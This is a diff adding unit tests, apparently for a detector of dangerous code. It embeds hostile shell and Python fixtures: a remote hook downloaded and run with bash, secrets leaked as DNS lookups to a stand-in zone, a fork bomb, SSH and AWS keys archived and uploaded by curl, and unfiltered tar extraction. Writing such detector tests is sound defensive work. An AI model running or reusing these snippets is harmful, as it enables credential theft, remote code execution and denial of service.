@@ -207,6 +207,91 @@ subprocess.run(["bash", "restart.sh"])
                   "\"https://fleet.example.com/containers.json\"", "commands built from a network answer", B);
 }
 
+// A helper that runs the same nested program each time (a fetch function
+// wrapping `python3 -c`) is analysed once; a later call prints data of the
+// same kind: its download, redirected into the hook script that bash runs.
+TEST(TwoHundredAndTwentySixthRoundClasses, ANestedProgramCalledAgainPrintsWhatItPrintedBefore) {
+  check_with_twin({"a fetch helper called for a manifest, then for a hook that bash runs", B, R"sh(
+fetch() {
+    URL="$1" python3 -c '
+import os, sys, urllib.request
+with urllib.request.urlopen(os.environ["URL"], timeout=20) as r:
+    sys.stdout.buffer.write(r.read())
+'
+}
+MANIFEST="$(fetch "https://profiles.example.net/manifest.txt")"
+echo "$MANIFEST" | head -n1
+HOOK="$(mktemp --suffix=.sh)"
+if fetch "https://profiles.example.net/hooks/post-update.sh" > "$HOOK"; then
+    bash "$HOOK"
+fi
+)sh", "REMOTE-CODE-EXECUTION", SH},
+                  "    bash \"$HOOK\"", "    wc -l \"$HOOK\"", "the hook only counted", L);
+}
+
+// Data fed to a started process later (Popen(stdin=PIPE), then
+// communicate(input)) is what its script reads: hex labels of secret
+// environment variables read line by line and looked up under a zone the
+// process was given in its environment.
+TEST(TwoHundredAndTwentySixthRoundClasses, DataFedToAStartedProcessIsWhatItsScriptReads) {
+  check_with_twin({"secrets as DNS labels fed to a lookup script's standard input", B, R"py(
+import os, subprocess, tempfile
+secrets = ";".join(f"{k}={v}" for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k)
+labels = [secrets.encode().hex()[i:i + 60] for i in range(0, len(secrets) * 2, 60)]
+with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
+    fh.write('while read -r label; do nslookup "$label.$ZONE"; done\n')
+    script = fh.name
+proc = subprocess.Popen(["sh", script], stdin=subprocess.PIPE, text=True,
+                        env=dict(os.environ, ZONE="t.stats.example.org"))
+proc.communicate("\n".join(labels) + "\n", timeout=60)
+)py", "COVERT-CHANNEL-EXFILTRATION"},
+                  "nslookup \"$label.$ZONE\"", "echo \"$label\" >> labels.txt", "the labels kept in a local file", M);
+}
+
+// SELF="$(readlink -f "$0")" (realpath, "$DIR/$(basename "$0")") is the
+// program: workers that start SELF copies, each copy doing the same, are a
+// fork bomb. `dirname "$0"` is only where it lives.
+TEST(TwoHundredAndTwentySixthRoundClasses, TheProgramsResolvedPathIsTheProgram) {
+  for (const char* self : {"$(readlink -f \"$0\")", "$(realpath \"$0\")", "$(cd \"$(dirname \"$0\")\" && pwd)/$(basename \"$0\")"}) {
+    const std::string code = std::string("SELF=\"") + self + "\"\nwhile true; do \"$SELF\" & \"$SELF\" & wait; done\n";
+    check({"copies of the resolved path started without end", B, code.c_str(), "FORK-BOMB", SH});
+  }
+  check({"a helper beside the program", L,
+         "HERE=\"$(dirname \"$(readlink -f \"$0\")\")\"\nwhile true; do \"$HERE/poll.sh\" & wait; sleep 5; done\n", nullptr,
+         SH});
+}
+
+// Files copied into a staging directory named in part at run time
+// (staging/<date>) are in the tar of that directory: SSH keys uploaded.
+TEST(TwoHundredAndTwentySixthRoundClasses, AStagingDirectoryNamedAtRunTimeHoldsWhatWasCopiedIntoIt) {
+  check_with_twin({"keys copied under staging/<date>, archived from there and uploaded", B, R"sh(
+STAGING="./backup_staging"
+STAMP="$(date +%Y%m%d_%H%M)"
+work="$STAGING/$STAMP"
+for root in .ssh .aws; do
+  mkdir -p "$work/profile/$root"
+  for f in "$HOME/$root"/id_* "$HOME/$root"/credentials; do
+    [[ -f "$f" ]] && cp -p "$f" "$work/profile/$root/"
+  done
+done
+tar -C "$work" -czf "$STAGING/gis_$STAMP.tgz" .
+curl -fsS -F "bundle=@$STAGING/gis_$STAMP.tgz" https://vault.example.org/ingest/gis
+)sh", "EXFILTRATION", SH},
+                  "for root in .ssh .aws; do", "for root in layers styles; do", "the project's own layers", L);
+}
+
+// tarfile.TarFile.open (and taropen, gzopen, ...) is tarfile.open: its
+// extractall without a filter is the unfiltered extraction.
+TEST(TwoHundredAndTwentySixthRoundClasses, TarFilesOwnConstructorsOpenArchives) {
+  check_with_twin({"TarFile.open, extractall named through getattr", M, R"py(
+import tarfile
+opener = tarfile.TarFile.open
+with opener("bundle.tar.gz", "r:*") as archive:
+    getattr(archive, "extract" + "all")("incoming")
+)py", "TAR-EXTRACT-UNFILTERED"},
+                  "(\"incoming\")", "(\"incoming\", filter=\"data\")", "with the data filter", L);
+}
+
 // list() of a library object (csv.DictReader over a response's text) is
 // not an empty list: its rows are known only at run time, so the SQL built
 // from each is still built.
